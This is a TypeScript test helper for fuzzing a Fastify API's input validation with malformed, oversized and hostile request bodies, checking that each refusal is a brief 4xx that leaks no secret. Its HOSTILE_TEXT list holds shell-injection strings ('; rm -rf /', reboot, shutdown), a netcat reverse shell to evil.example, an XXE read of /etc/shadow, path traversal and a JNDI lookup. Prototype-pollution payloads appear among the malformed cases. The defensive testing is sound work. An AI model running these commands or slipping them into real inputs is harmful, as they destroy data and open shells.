// What both fuzz files share: routes read from a live Fastify instance, malformed requests made
// from a valid body and the route's own schema (wrong types and missing required fields at every
// depth, huge values, deep nesting, broken bytes, pollution keys), a real-socket client with a
// deadline per request, and the check every refusal must pass: a 4xx, one short plain line, no
// secret in it.
import { connect } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { Client } from 'undici';
import { seededRandom } from '../helpers/fuzz.js';

export { seededRandom };

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type Path = (string | number)[];

export const KIB = 1024;
export const MIB = 1024 * KIB;

/** Shell, XML, form and JSON metacharacters, and text that is easy to mistake for something else. */
export const HOSTILE_TEXT = [
  '$(reboot)',
  '`reboot`',
  '; rm -rf / #',
  "' ; rm -rf / ; echo '",
  '" && shutdown -h now && "',
  '| nc evil.example 4444 -e /bin/sh',
  '<domain type="kvm"><name>evil</name></domain>',
  ']]><injected/><![CDATA[',
  '&amp;&lt;&#x27;&#0;',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/shadow">]>&e;',
  'a=1&b=2;c=3+4%26%3B',
  '{"__proto__":{"polluted":1}}',
  'line one\nline two\r\nline three',
  '\t tabs \u000b and \f feeds',
  '\u202eevil\u202c ünïcødé 漢字 🙂',
  '\ud83d',
  '../../../../etc/passwd',
  '%00%0a%0d',
  '${jndi:ldap://evil.example/a}',
  '',
];

/** A secret that must never come back in a refusal, an error envelope or a log line. */
export const CANARY = 'canary-5f3e-do-not-leak';

// ------------------------------------------------------------------ routes

export interface RouteEntry {
  method: string;
  path: string;
}

/**
 * The routes a Fastify instance serves, read from its own route table (HEAD left out). printRoutes
 * draws a tree whose nodes are path pieces (`/v1/delete`, then `ImportedDisk` under it): a route's
 * path is its node's piece after those of its ancestors.
 */
export function servedRoutes(app: FastifyInstance): RouteEntry[] {
  const routes: RouteEntry[] = [];
  const pieces: string[] = [];
  for (const line of app.printRoutes({ commonPrefix: false }).split('\n')) {
    const match = /^((?:[│ ] {3})*)[├└]── (.*?)(?: \(([A-Z, ]+)\))?$/.exec(line);
    if (!match) continue;
    const depth = (match[1] ?? '').length / 4;
    pieces.length = depth;
    pieces.push(match[2] ?? '');
    for (const method of (match[3] ?? '').split(',').map((item) => item.trim())) {
      if (method !== '' && method !== 'HEAD') routes.push({ method, path: pieces.join('') });
    }
  }
  return routes;
}

/**
 * Records each route's body schema as requests reach it (Fastify gives it to hooks as
 * routeOptions.schema). Passive: it changes nothing about the request.
 */
export function recordBodySchemas(app: FastifyInstance): Map<string, SchemaNode> {
  const schemas = new Map<string, SchemaNode>();
  app.addHook('onRequest', async (request) => {
    const url = request.routeOptions.url;
    const body: unknown = request.routeOptions.schema?.body;
    if (url !== undefined && isRecord(body) && !schemas.has(url)) schemas.set(url, body as SchemaNode);
  });
  return schemas;
}

// ------------------------------------------------------------------ schema walking

/** The JSON Schema keywords read here (TypeBox writes plain JSON Schema). */
export interface SchemaNode {
  type?: string | string[];
  properties?: Record<string, SchemaNode>;
  patternProperties?: Record<string, SchemaNode>;
  additionalProperties?: boolean | SchemaNode;
  items?: SchemaNode;
  required?: string[];
  anyOf?: SchemaNode[];
  oneOf?: SchemaNode[];
  allOf?: SchemaNode[];
  $ref?: string;
}

const JSON_TYPES = ['string', 'integer', 'number', 'boolean', 'object', 'array'] as const;
type JsonType = (typeof JSON_TYPES)[number];

export interface TypedPath {
  path: Path;
  type: JsonType;
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

const patterns = new Map<string, RegExp>();
function pattern(source: string): RegExp {
  let compiled = patterns.get(source);
  if (!compiled) patterns.set(source, (compiled = new RegExp(source)));
  return compiled;
}

/** The schema of `key` inside an object schema, when there is exactly one. */
function propertySchema(schema: SchemaNode, key: string): SchemaNode | undefined {
  const declared = schema.properties?.[key];
  if (declared) return declared;
  for (const [source, value] of Object.entries(schema.patternProperties ?? {})) if (pattern(source).test(key)) return value;
  return isRecord(schema.additionalProperties) ? (schema.additionalProperties as SchemaNode) : undefined;
}

/** One plain type, or undefined where the schema allows several shapes (unions, refs, unknown). */
function plainType(schema: SchemaNode): JsonType | undefined {
  if (schema.anyOf || schema.oneOf || schema.allOf || schema.$ref) return undefined;
  return typeof schema.type === 'string' && (JSON_TYPES as readonly string[]).includes(schema.type) ? (schema.type as JsonType) : undefined;
}

/**
 * Every value in `body` whose schema names one plain type (so any other type must be refused),
 * and every key the schema requires (so its absence must be refused), at every depth.
 */
export function schemaFacts(body: Json, schema: SchemaNode): { typed: TypedPath[]; required: Path[] } {
  const typed: TypedPath[] = [];
  const required: Path[] = [];
  const walk = (value: Json, node: SchemaNode, path: Path) => {
    const type = plainType(node);
    if (type === undefined) return;
    typed.push({ path, type });
    if (type === 'object' && isRecord(value)) {
      for (const key of node.required ?? []) if (key in value) required.push([...path, key]);
      for (const [key, child] of Object.entries(value)) {
        const childSchema = propertySchema(node, key);
        if (childSchema) walk(child as Json, childSchema, [...path, key]);
      }
    } else if (type === 'array' && Array.isArray(value) && node.items) {
      value.forEach((item, index) => walk(item, node.items as SchemaNode, [...path, index]));
    }
  };
  walk(body, schema, []);
  return { typed, required };
}

// ------------------------------------------------------------------ editing bodies

export function clone<T extends Json>(value: T): T {
  return structuredClone(value);
}

export function getAt(root: Json, path: Path): Json | undefined {
  let node: Json | undefined = root;
  for (const key of path) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string | number, Json>)[key];
  }
  return node;
}

/** A copy of `root` with `value` at `path` (the root itself for []). */
export function withValue(root: Json, path: Path, value: Json): Json {
  if (path.length === 0) return value;
  const copy = clone(root);
  const parent = getAt(copy, path.slice(0, -1)) as Record<string | number, Json>;
  parent[path[path.length - 1] as string | number] = value;
  return copy;
}

export function without(root: Json, path: Path): Json {
  const copy = clone(root);
  const parent = getAt(copy, path.slice(0, -1)) as Record<string, Json>;
  delete parent[String(path[path.length - 1])];
  return copy;
}

/** `parent.spec.disks[0].size`, for messages. */
export function dotted(path: Path): string {
  return path.map((key, index) => (typeof key === 'number' ? `[${key}]` : index === 0 ? key : `.${key}`)).join('') || '(root)';
}

/** Every path to an object, array or value inside `root`, grouped by depth (depth 0: the root). */
export function pathsByDepth(root: Json): Path[][] {
  const levels: Path[][] = [];
  const walk = (value: Json, path: Path) => {
    (levels[path.length] ??= []).push(path);
    if (Array.isArray(value)) value.forEach((item, index) => walk(item, [...path, index]));
    else if (isRecord(value)) for (const [key, item] of Object.entries(value)) walk(item as Json, [...path, key]);
  };
  walk(root, []);
  return levels;
}

/** `{"a":{"a":…"bottom"…}}` (or arrays), `levels` deep, as text: JSON.stringify would recurse. */
export function deepText(levels: number, arrays = false): string {
  return arrays ? `${'['.repeat(levels)}"bottom"${']'.repeat(levels)}` : `${'{"a":'.repeat(levels)}"bottom"${'}'.repeat(levels)}`;
}

const RAW_MARKER = '\u0000raw text goes here\u0000';

/** A body as text, with raw JSON text in place of the value at `path`. */
export function textWithRaw(root: Json, path: Path, raw: string): string {
  // A function, so that `$&` and the like in the raw text are not replacement patterns.
  return JSON.stringify(withValue(root, path, RAW_MARKER)).replace(JSON.stringify(RAW_MARKER), () => raw);
}

// ------------------------------------------------------------------ generated values

export class Generator {
  readonly random: () => number;

  constructor(seed: number) {
    this.random = seededRandom(seed);
  }

  int(max: number): number {
    return Math.floor(this.random() * max);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }

  /** A value of any type but `type` (1.5 for an integer: right family, wrong type). */
  wrongType(type: JsonType): Json {
    const choices: Record<JsonType, Json[]> = {
      string: [0, -1, 1e308, true, false, null, [], ['x'], {}, { x: 'y' }],
      integer: ['1', '', 1.5, true, null, [], [1], {}],
      number: ['1', '', true, null, [], [1], {}],
      boolean: ['true', 'false', 0, 1, null, [], {}],
      object: ['x', '', 0, true, null, [], [{}]],
      array: ['x', '', 0, true, null, {}, { 0: 'x' }],
    };
    return this.pick(choices[type]);
  }

  hostileText(): string {
    if (this.int(4) > 0) return this.pick(HOSTILE_TEXT);
    // A few pieces glued together: new combinations, same alphabet.
    return Array.from({ length: 2 + this.int(3) }, () => this.pick(HOSTILE_TEXT)).join(this.pick(['', ' ', '\n', '&', ';']));
  }

  /** 1 MiB of text, of one of a few kinds (ASCII, multi-byte, metacharacters). */
  hugeString(): string {
    const unit = this.pick(['x', 'é', '🙂', '<&>', '$(reboot);']);
    return unit.repeat(Math.ceil(MIB / Buffer.byteLength(unit))).slice(0, MIB);
  }

  /**
   * `value` (an array or an object) grown to ten to twenty thousand entries, as JSON text: copies
   * of its first item (or of a short string), or keys `k0`… beside its own.
   */
  hugeCollectionText(value: Json | undefined): string {
    const length = 10_000 + this.int(10_000);
    if (Array.isArray(value)) {
      const first = value[0] === undefined ? '"x"' : JSON.stringify(value[0]);
      return `[${new Array<string>(length).fill(first.length > 200 ? '"x"' : first).join(',')}]`;
    }
    const own = JSON.stringify(value ?? {}).slice(1, -1);
    return `{${own}${own === '' ? '' : ','}${manyKeys(length)}}`;
  }
}

const keyLists = new Map<number, string>();
/** `"k0":"v0","k1":"v1",…`, made once per length. */
function manyKeys(length: number): string {
  let text = keyLists.get(length);
  if (text === undefined) keyLists.set(length, (text = Array.from({ length }, (_, index) => `"k${index}":"v${index}"`).join(',')));
  return text;
}

// ------------------------------------------------------------------ requests that are not a body

export interface RequestCase {
  name: string;
  /** undefined: no body at all. */
  payload: string | Buffer | undefined;
  /** undefined: no Content-Type header. */
  contentType: string | undefined;
}

const JSON_TYPE = 'application/json';

/** Requests that must be refused whatever the route: bytes, media types, depth, pollution keys, top-level shape. */
export function malformedCases(sample: Json): RequestCase[] {
  const text = JSON.stringify(sample);
  const bytes = Buffer.from(text);
  const at = (index: number, replacement: number[]) => Buffer.concat([bytes.subarray(0, index), Buffer.from(replacement), bytes.subarray(index + 1)]);
  const inString = text.indexOf('":"') + 3;
  const paths = pathsByDepth(sample);
  // The deepest object in the sample: pollution and nesting go there as well as at the top.
  const deepest = [...paths].reverse().flat().find((path) => isRecord(getAt(sample, path))) ?? [];
  const nested = (key: string, value: string) => textWithRaw(sample, deepest, `{${JSON.stringify(key)}:${value}}`);
  const cases: RequestCase[] = [
    { name: 'empty body', payload: '', contentType: JSON_TYPE },
    { name: 'whitespace body', payload: ' \r\n\t ', contentType: JSON_TYPE },
    { name: 'no body, no content type', payload: undefined, contentType: undefined },
    { name: 'the body without a content type', payload: text, contentType: undefined },
    { name: 'text/plain', payload: text, contentType: 'text/plain' },
    { name: 'application/xml', payload: '<parent><spec/></parent>', contentType: 'application/xml' },
    { name: 'form encoded', payload: 'parent=x&controller=y', contentType: 'application/x-www-form-urlencoded' },
    { name: 'multipart', payload: '--b\r\nContent-Disposition: form-data; name="parent"\r\n\r\nx\r\n--b--\r\n', contentType: 'multipart/form-data; boundary=b' },
    { name: 'application/jsonx', payload: text, contentType: 'application/jsonx' },
    { name: 'charset utf-16', payload: Buffer.from(text, 'utf16le'), contentType: `${JSON_TYPE}; charset=utf-16` },
    { name: 'charset latin1', payload: text, contentType: `${JSON_TYPE}; charset=iso-8859-1` },
    { name: 'invalid UTF-8: 0xff in a string', payload: at(inString, [0xff]), contentType: JSON_TYPE },
    { name: 'invalid UTF-8: overlong slash', payload: at(inString, [0xc0, 0xaf]), contentType: JSON_TYPE },
    { name: 'invalid UTF-8: encoded surrogate', payload: at(inString, [0xed, 0xa0, 0x80]), contentType: JSON_TYPE },
    { name: 'invalid UTF-8: truncated sequence at the end', payload: Buffer.concat([bytes, Buffer.from([0xe2, 0x82])]), contentType: JSON_TYPE },
    { name: 'truncated JSON', payload: text.slice(0, Math.floor(text.length / 2)), contentType: JSON_TYPE },
    { name: 'trailing garbage', payload: `${text}x`, contentType: JSON_TYPE },
    { name: 'two documents', payload: `${text}${text}`, contentType: JSON_TYPE },
    ...(text.includes('"') ? [{ name: 'single quotes', payload: text.replace(/"/g, "'"), contentType: JSON_TYPE }] : []),
    { name: 'NaN', payload: textWithRaw(sample, deepest, 'NaN'), contentType: JSON_TYPE },
    { name: 'top level array', payload: `[${text}]`, contentType: JSON_TYPE },
    { name: 'top level string', payload: JSON.stringify(text), contentType: JSON_TYPE },
    { name: 'top level number', payload: '42', contentType: JSON_TYPE },
    { name: 'top level null', payload: 'null', contentType: JSON_TYPE },
    { name: 'top level true', payload: 'true', contentType: JSON_TYPE },
    { name: '10 000 nested objects at the top', payload: deepText(10_000), contentType: JSON_TYPE },
    { name: '10 000 nested arrays at the top', payload: deepText(10_000, true), contentType: JSON_TYPE },
    { name: `10 000 nested objects at ${dotted(deepest)}`, payload: textWithRaw(sample, deepest, deepText(10_000)), contentType: JSON_TYPE },
    { name: `10 000 nested arrays at ${dotted(deepest)}`, payload: textWithRaw(sample, deepest, deepText(10_000, true)), contentType: JSON_TYPE },
    { name: '__proto__ at the top', payload: `{"__proto__":{"polluted":true},${text.slice(1)}`, contentType: JSON_TYPE },
    { name: `__proto__ at ${dotted(deepest)}`, payload: nested('__proto__', '{"polluted":true}'), contentType: JSON_TYPE },
    { name: 'escaped __proto__ key', payload: `{"\\u005f_proto__":{"polluted":true},${text.slice(1)}`, contentType: JSON_TYPE },
    { name: 'constructor.prototype at the top', payload: `{"constructor":{"prototype":{"polluted":true}},${text.slice(1)}`, contentType: JSON_TYPE },
    { name: `constructor.prototype at ${dotted(deepest)}`, payload: nested('constructor', '{"prototype":{"polluted":true}}'), contentType: JSON_TYPE },
  ];
  // A duplicate top-level key whose first value is garbage and whose last is the real one: two
  // parsers that pick different ones see two different requests.
  const [firstKey] = Object.keys(sample as Record<string, Json>);
  if (firstKey !== undefined) {
    cases.push({ name: `duplicate key ${firstKey} (garbage first)`, payload: `{${JSON.stringify(firstKey)}:"garbage",${text.slice(1)}`, contentType: JSON_TYPE });
    cases.push({ name: `duplicate key ${firstKey} (garbage last)`, payload: `${text.slice(0, -1)},${JSON.stringify(firstKey)}:"garbage"}`, contentType: JSON_TYPE });
    cases.push({ name: `duplicate key ${firstKey} (escaped spelling)`, payload: `{${JSON.stringify(firstKey).replace(/^"./, (head) => `"\\u${head.charCodeAt(1).toString(16).padStart(4, '0')}`)}:"garbage",${text.slice(1)}`, contentType: JSON_TYPE });
  }
  return cases;
}

// ------------------------------------------------------------------ sending

export interface Answer {
  status: number;
  contentType: string;
  body: string;
  ms: number;
}

/** A keep-alive client to one loopback server; every request has its own deadline. */
export class Sender {
  readonly #client: Client;

  constructor(
    readonly origin: string,
    private readonly deadlineMs: number,
  ) {
    this.#client = new Client(origin, { headersTimeout: deadlineMs, bodyTimeout: deadlineMs, keepAliveTimeout: 10_000 });
  }

  async send(method: string, path: string, payload: string | Buffer | undefined, headers: Record<string, string> = {}): Promise<Answer> {
    const started = performance.now();
    const response = await this.#client.request({
      method: method as 'POST',
      path,
      headers,
      ...(payload === undefined ? {} : { body: payload }),
      signal: AbortSignal.timeout(this.deadlineMs),
    });
    const body = await response.body.text();
    const type = response.headers['content-type'];
    return { status: response.statusCode, contentType: typeof type === 'string' ? type : '', body, ms: performance.now() - started };
  }

  close(): Promise<void> {
    return this.#client.close();
  }
}

/** Sends raw bytes on a new connection; resolves with the status line's code and the body once the server answers or closes. */
export function rawExchange(port: number, head: string, body: Buffer, deadlineMs: number): Promise<{ status: number; body: string; ms: number }> {
  const started = performance.now();
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port });
    const chunks: Buffer[] = [];
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      const raw = Buffer.concat(chunks).toString('utf8');
      const [top = '', ...rest] = raw.split('\r\n\r\n');
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(top)?.[1] ?? 0), body: rest.join('\r\n\r\n'), ms: performance.now() - started });
    };
    const timer = setTimeout(finish, deadlineMs);
    socket.on('data', (chunk: Buffer) => {
      chunks.push(chunk);
      // One answer is all we wait for: its head and a Content-Length's worth of body.
      const raw = Buffer.concat(chunks).toString('utf8');
      const split = raw.indexOf('\r\n\r\n');
      const length = Number(/content-length: *(\d+)/i.exec(raw.slice(0, split))?.[1] ?? NaN);
      if (split >= 0 && Number.isFinite(length) && Buffer.byteLength(raw.slice(split + 4)) >= length) finish();
    });
    socket.on('error', finish);
    socket.on('close', finish);
    socket.write(head);
    if (body.length > 0) socket.write(body);
  });
}

// ------------------------------------------------------------------ checking answers

/** Bounds of a refusal: one line of printable text (oneLine's ellipsis allowed) and no longer than this. */
export const MAX_REFUSAL_CHARS = 512;

/** What is wrong with a refusal; undefined when it is a proper one. */
export function refusalProblem(answer: { status: number; body: string; contentType?: string }): string | undefined {
  if (answer.status < 400 || answer.status > 499) return `status ${answer.status}, not a 4xx`;
  return lineProblem(answer.body, answer.contentType);
}

/** A plain one-line message: no line break, printable, bounded, no secret. */
export function lineProblem(body: string, contentType?: string): string | undefined {
  if (contentType !== undefined && !/^text\/plain\b/.test(contentType)) return `content type ${contentType}, not text/plain`;
  if (body === '') return 'an empty message';
  if (/[\r\n]/.test(body)) return `a multi-line message: ${JSON.stringify(body.slice(0, 120))}`;
  if (body.length > MAX_REFUSAL_CHARS) return `a ${body.length}-character message`;
  if (!/^[\x20-\x7e\u2026]*$/.test(body)) return `unprintable characters in ${JSON.stringify(body.slice(0, 120))}`;
  if (body.includes(CANARY)) return 'the message quotes a secret';
  return undefined;
}

/** `{"polluted": …}` anywhere on Object.prototype means a pollution key got through somewhere. */
export function prototypePolluted(): boolean {
  return 'polluted' in Object.prototype || 'polluted' in Object.getPrototypeOf([]);
}
